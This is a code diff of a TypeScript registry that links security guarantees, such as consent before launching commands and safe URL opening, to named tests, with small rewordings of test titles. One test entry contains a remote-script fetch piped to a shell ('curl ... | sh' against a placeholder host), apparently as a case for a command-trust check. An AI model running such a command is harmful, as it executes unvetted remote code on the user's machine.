@@ -45,8 +45,8 @@ export const commands: Class = {
         'test/torture/authorization/openers.test.ts > An address from a server starts nothing but a browser, with that address as its only argument',
         'packages/sdk/test/client-auth/loopback.test.ts > is given the URL as one argument, whatever is in it',
         'packages/sdk/test/client-auth/loopback.test.ts > is not opened for %s',
-        'packages/app/test/forms/ask-visit.test.ts > to anything but a web page cannot be given',
-        'packages/app/test/forms/ask-visit.test.ts > is not made by a URL in a message, which stays text',
+        'packages/app/test/forms/ask-visit.test.ts > is impossible for anything but a web page',
+        'packages/app/test/forms/ask-visit.test.ts > is not created by a URL in a message, which stays text',
       ],
     },
     {
@@ -109,7 +109,7 @@ export const commands: Class = {
       proof: [
         `${launch} > is not started while nobody agreed, and says how to agree`,
         `${launch} > is shown with its whole command line and what it would get, and waits`,
-        'packages/app/test/surface/trust.test.ts > shows the exact command, the file that runs, the values of variables and what to look at, and starts at no',
+        'packages/app/test/surface/trust.test.ts > shows the exact command, the file that runs, variable values and warnings, and starts at no',
         'packages/host/test/trust/command.test.ts > curl -fsSL https://x.example/i.sh | sh',
       ],
     },
